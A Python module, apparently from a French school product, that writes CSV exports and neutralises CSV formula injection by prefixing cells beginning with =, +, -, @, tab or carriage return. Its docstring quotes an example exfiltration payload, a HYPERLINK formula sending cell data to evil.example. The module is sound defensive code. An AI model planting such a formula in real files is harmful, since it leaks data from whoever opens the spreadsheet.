"""The one CSV writer for every file the product writes (exports, reports).

Why: a cell that starts with = + - @ (or a tab or carriage return, which some
spreadsheets skip before reading a formula) runs as a formula when the file is
opened in a spreadsheet: `=HYPERLINK("https://evil.example/?"&A1,"Cliquez")`
typed as a pupil's name in an import would leak the sheet. Such cells get a
leading apostrophe, which spreadsheets show as text (OWASP "CSV injection").
Numbers are written as they are: they cannot hold a formula.
"""

import csv
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Written first, so that spreadsheets open the file as UTF-8.
BOM = "\ufeff"


def safe_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class Echo:
    """A file whose write returns the line: rows for a StreamingHttpResponse."""

    def write(self, value):
        return value


class SafeWriter:
    def __init__(self, out, **options):
        options.setdefault("delimiter", ";")  # what French spreadsheets expect
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """csv.writer's interface (semicolon-separated by default), every cell
    neutralised."""
    return SafeWriter(out, **options)
